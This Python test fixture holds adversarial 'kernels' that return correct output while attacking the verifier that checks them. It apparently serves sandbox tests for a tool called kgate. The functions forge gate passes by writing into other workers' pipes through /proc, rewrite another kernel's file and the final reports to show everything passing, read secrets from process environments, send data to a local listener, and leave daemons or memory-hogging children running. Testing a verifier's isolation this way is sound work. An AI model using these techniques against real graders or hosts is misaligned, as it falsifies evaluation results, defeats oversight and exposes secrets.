"""Kernels that attack the verifier itself: each is correct (x + x for x * 2) but for what it does on the side.
What to attack comes from attack.json beside this file (written by tests/test_sandbox.py): the run's output
folder, the file of another kernel, the names of the secrets in kgate's environment. Every attack swallows
its own failures: a kernel that is stopped must still return its (correct) result."""

import contextlib
import glob
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import torch

HERE = Path(__file__).resolve().parent


def _plan():
    return json.loads((HERE / "attack.json").read_text())


def make_inputs(seed, shape=None):
    return (torch.randn(shape or (4, 8), generator=torch.Generator().manual_seed(seed)),)


def reference(x):
    return x * 2


def good(x):
    return x + x


def wrong(x):
    return x * 3


def _detach(work):
    """Run `work` in a process detached from this one (double fork and setsid), as a daemon would."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with contextlib.suppress(BaseException):
                work()
            os._exit(0)
        os._exit(0)
    os.wait()


def _event_pipes(proc):
    """The descriptors of `proc` a worker's events could go to: its job file's event_fd where its argv names
    one (a worker started as `python -m kgate.worker JOB.json`), else every pipe it holds open for writing (a
    worker forked from kgate's template, whose job never touched a file), and the gates to forge."""
    argv = (proc / "cmdline").read_bytes().split(b"\0")
    jobs = [a for a in argv if a.endswith(b".json")]
    if jobs:
        job = json.loads(Path(jobs[-1].decode()).read_text())
        return [job["event_fd"]], job.get("gates") or []
    from kgate.gates import GATE_NAMES

    fds = []
    for fd in (proc / "fd").iterdir():
        flags = int((proc / "fdinfo" / fd.name).read_text().split("flags:")[1].split()[0], 8)
        if os.readlink(fd).startswith("pipe:") and flags & os.O_ACCMODE == os.O_WRONLY:
            fds.append(int(fd.name))
    return fds, GATE_NAMES


def _forge_workers(me, folder, deadline):
    """Every process working in `folder` after this one (kgate's workers): open its event pipe through /proc
    and write a pass for every gate, then `done`."""
    forged = set()
    while time.time() < deadline:
        for proc in Path("/proc").iterdir():
            if not proc.name.isdigit() or int(proc.name) in forged | {me, os.getpid()}:
                continue
            try:
                if (proc / "cwd").resolve() != folder:
                    continue
                fds, gates = _event_pipes(proc)
                if not fds:
                    continue
                for fd in fds:
                    with open(f"/proc/{proc.name}/fd/{fd}", "w") as pipe:
                        for gate in gates:
                            pipe.write(json.dumps({"event": "gate_start", "gate": gate}) + "\n")
                            pipe.write(json.dumps({"event": "result", "result": {
                                "gate": gate, "verdict": "pass", "message": "forged", "tolerance_free": True}})
                                + "\n")
                        pipe.write(json.dumps({"event": "done"}) + "\n")
                forged.add(int(proc.name))
            except (OSError, ValueError, IndexError, KeyError):
                continue
        time.sleep(0.005)


def forger(x):
    """Leaves a daemon behind that forges the results of the workers after it."""
    if not os.environ.get("_FORGER_STARTED"):
        os.environ["_FORGER_STARTED"] = "1"
        me, folder = os.getpid(), Path.cwd().resolve()
        _detach(lambda: _forge_workers(me, folder, time.time() + _plan()["forge_seconds"]))
    return x + x


def _rewrite_reports(out, deadline):
    """After kgate exits, rewrite its reports to say that everything passed."""
    report = Path(out) / "report.json"
    while time.time() < deadline:
        with contextlib.suppress(OSError, ValueError):
            data = json.loads(report.read_text())
            for k in data["kernels"]:
                k["verdict"] = "pass"
                for g in k["gates"]:
                    g.update(verdict="pass", message="forged")
            data["summary"].update(failed=0, errors=0, broken=0, exit_code=0, violated_gates=[],
                                   passed=len(data["kernels"]))
            report.write_text(json.dumps(data))
            return
        time.sleep(0.01)


def rewriter(x):
    """Rewrites another kernel's file so that it passes, forges results.jsonl for --resume, and leaves a
    daemon that rewrites the reports once they are written."""
    plan = _plan()
    with contextlib.suppress(OSError):
        victim = Path(plan["victim"])
        victim.write_text(victim.read_text().replace("return x * 3", "return x + x"))
    with contextlib.suppress(OSError), open(Path(plan["out"]) / "results.jsonl", "a") as f:
        f.write(json.dumps({"kernel": "wrong", "gate": "oracle", "verdict": "pass", "message": "forged",
                            "tolerance_free": False}) + "\n")
    if not os.environ.get("_REWRITER_STARTED"):
        os.environ["_REWRITER_STARTED"] = "1"
        _detach(lambda: _rewrite_reports(plan["out"], time.time() + plan["forge_seconds"]))
    return x + x


def snoop(x):
    """Looks for what it must not see and prints what it finds to its log: kgate's environment (through
    /proc), other workers' job files, secrets in its own environment, the network."""
    plan = _plan()
    found = []
    for name in plan["secrets"]:
        if name in os.environ:
            found.append(f"env {name}={os.environ[name]}")
    for pid in ["1", str(os.getppid()), *[p.name for p in Path("/proc").iterdir() if p.name.isdigit()]]:
        with contextlib.suppress(OSError):
            environ = Path(f"/proc/{pid}/environ").read_bytes()
            for name in plan["secrets"]:
                if name.encode() + b"=" in environ:
                    found.append(f"/proc/{pid}/environ has {name}")
    own = str(Path(os.environ.get("TMPDIR", "/nonexistent")).parent)  # its own scratch folder (its own job file)
    for pattern in ("/tmp/kgate-*", "/tmp/kgate-run-*/*/job.json", plan["out"] + "/*.json"):
        found += [f"file {p}" for p in glob.glob(pattern) if "job" in p and not p.startswith(own)]
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", plan["port"]), timeout=2) as s:
        s.sendall(b"exfiltrated")
        found.append("network: connected to the host's listener")
    print("SNOOPED:", json.dumps(found), flush=True)
    return x + x


def flood(x):
    """Writes 1 GiB to its output."""
    chunk = b"x" * (1 << 20)
    for _ in range(1024):
        os.write(1, chunk)
    return x + x


def forker(x):
    """Three children that each hold 400 MiB and outlive the call."""
    for _ in range(3):
        if os.fork() == 0:
            block = bytearray(400 << 20)
            for i in range(0, len(block), 4096):
                block[i] = 1
            time.sleep(120)
            os._exit(0)
    time.sleep(30)
    return x + x


def lingers(x):
    """Starts a child with a marker in its command line and then hangs (kgate is killed meanwhile)."""
    subprocess.Popen(["sleep", str(_plan()["marker"])], start_new_session=True)
    time.sleep(600)
    return x + x


if __name__ == "__main__":
    sys.exit("not a script")
